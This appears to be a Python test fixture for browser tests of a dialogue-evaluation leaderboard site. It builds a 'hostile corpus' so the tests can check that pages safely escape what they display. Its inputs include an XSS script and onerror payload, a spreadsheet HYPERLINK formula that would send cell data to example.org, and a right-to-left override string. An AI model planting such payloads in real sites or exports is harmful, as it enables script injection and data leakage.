"""What browser tests look at: a site with the demo and a hostile corpus, scored, with a web server
and a worker."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from tests.conftest import made_site
from tests.site import Site, home_made_once

SCORED = "word_f1,bleu_4,rouge_l"
WITH_A_MODEL = ("fbd",)
"""Of those that the demo asks for, the one of whole systems. The pages of the others look like
those of lexical metrics, and their models take longer than many of these tests."""
LONG_WORD = "Donaudampfschifffahrtselektrizitätenhauptbetriebswerk" * 6
HOSTILE_TEXTS = (
    "<script>document.title = 'taken over'</script><img src=x onerror=\"document.title='taken "
    "over'\">",
    '=HYPERLINK("http://example.org/?"&A1,"click me")',
    LONG_WORD,
    (
        "\N{HEBREW LETTER SHIN}\N{HEBREW LETTER LAMED}\N{HEBREW LETTER VAV}\N{HEBREW LETTER MEM} "
        "(left?) \N{RIGHT-TO-LEFT OVERRIDE}backwards"
    ),
    (
        "\N{WAVING HAND SIGN}\N{EMOJI MODIFIER FITZPATRICK TYPE-5} \N{FAMILY} "
        "\N{REGIONAL INDICATOR SYMBOL LETTER J}\N{REGIONAL INDICATOR SYMBOL LETTER P} "
        "e\N{COMBINING ACUTE ACCENT}"
    ),
)


@dataclass(frozen=True)
class Stage:
    site: Site
    address: str
    sessions: dict[str, Any] = field(default_factory=dict)
    """Of the demo's log-ins: see ``visitors``."""

    def python(self, code: str) -> str:
        return self.site.python(code)


LOADED = f"""
from django.core.management import call_command
from dialeval_site.demo import site as demo
from leaderboard.results import warming
from tests.workers.metrics.test_distribution_metrics import Encoder
from workers.metrics.common import pair_features
from workers.models import MetricRun
pair_features.encoder_for = lambda *_: Encoder()
demo.WITH_A_MODEL, demo.JUDGES = {WITH_A_MODEL}, ()
demo.load_demo()
asked_for = ",".join(sorted(set(MetricRun.objects.values_list("configuration", flat=True))))
call_command("import_corpus", "jsonl", "HOSTILE", "--slug", "hostile")
call_command("score", "--corpus", "demo", "--metrics", asked_for, "--inline")
call_command("score", "--corpus", "hostile", "--metrics", "{SCORED}", "--inline")
while warming.warm():
    call_command("analyse")
"""
"""In one process, with points that no model makes: pages show the same of them, and the model takes
half a minute of a processor. The statistics of which a worker thinks by itself are there, too: else
the worker of each copy would compute them."""


SELDOM_SWEPT = {"DIALEVAL_SWEEP_SECONDS": "4", "DIALEVAL_LEASE_SECONDS": "60"}
"""Nobody dies here, and the worker lives as long as all tests: two sweeps a second take a twelfth of
a processor. Of a test that does a worker's part and is held up the worker takes nothing over."""


@contextmanager
def set_up(made: Path, home: Path) -> Iterator[Stage]:
    """A copy, at ``home``, of the site that is in ``made``, or is made there by the first process
    that comes. On SQLite: a site is a folder."""
    shutil.copytree(home_made_once(made, _load), home, symlinks=True)
    site = Site(home, {"DATABASE_URL": "", "CELERY_BROKER_URL": "", **SELDOM_SWEPT})
    try:
        site.start_worker()
        yield Stage(site, site.start_web())
    finally:
        site.stop()


def _load(home: Path) -> None:
    """All that loading the demo asked for is scored before a worker starts: the pages then stand
    still, and what the worker does is what a test asked it to do."""
    with made_site(home) as site:
        hostile = home / "hostile.jsonl"
        write_hostile_corpus(hostile)
        site.python(LOADED.replace("HOSTILE", str(hostile)))


def write_hostile_corpus(path: Path) -> None:
    """Every text that a file can hold says something that a page must not obey: names, personas,
    utterances."""
    markup, _, word, *_ = HOSTILE_TEXTS
    systems = [f"<b>bold</b> & {LONG_WORD[:120]}", "=1+1", "\N{SNOWMAN} quiet"]
    records: list[dict[str, object]] = [
        {
            "type": "corpus",
            "name": f"Hostile <i>corpus</i> {LONG_WORD[:60]}",
            "description": f"{markup} {word}",
        },
        *({"type": "system", "name": name, "description": markup} for name in systems),
        {"type": "rater", "name": markup[:60]},
        {"type": "rater", "name": "second"},
    ]
    for dialogue in range(3):
        turns = [
            {
                "number": number,
                "context": [
                    {"speaker": "A", "text": text},
                    {"speaker": "B", "text": text},
                    {"speaker": "A", "text": text},
                ],
                "references": [text],
            }
            for number, text in enumerate(HOSTILE_TEXTS)
        ]
        name = f"<u>{dialogue}</u>{LONG_WORD[:50]}"
        records.append(
            {
                "type": "dialogue",
                "id": name,
                "persona": [markup, word],
                "partner_persona": [word],
                "turns": turns,
            }
        )
        for number, text in enumerate(HOSTILE_TEXTS):
            for place, system in enumerate(systems):
                item = {"dialogue_id": name, "turn": number, "system": system}
                records.append({"type": "response", **item, "text": text if place < 2 else ""})
                records += [
                    {
                        "type": "rating",
                        **item,
                        "rater": rater,
                        "aspect": "overall",
                        "score": 1 + (number + place + n) % 5,
                    }
                    for n, rater in enumerate((markup[:60], "second"))
                ]
    path.write_text("".join(json.dumps(record) + "\n" for record in records), encoding="utf-8")
